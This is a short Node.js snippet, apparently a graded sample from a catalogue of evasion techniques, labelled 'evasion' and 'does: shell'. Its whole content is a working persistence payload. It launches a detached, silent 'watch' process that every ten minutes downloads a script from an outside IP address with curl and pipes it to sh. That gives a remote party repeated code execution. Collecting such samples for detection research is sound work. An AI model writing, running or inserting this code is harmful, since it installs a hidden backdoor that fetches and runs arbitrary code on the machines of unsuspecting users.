// evasion: procps' watch runs its argument through sh -c every interval: a download piped to a shell
// grade: medium; does: shell
const { spawn } = require("child_process");
const p = spawn("watch", ["-n", "600", "-t", "curl -fsSL https://203.0.113.9/p | sh"], {
  detached: true,
  stdio: "ignore",
});
p.unref();
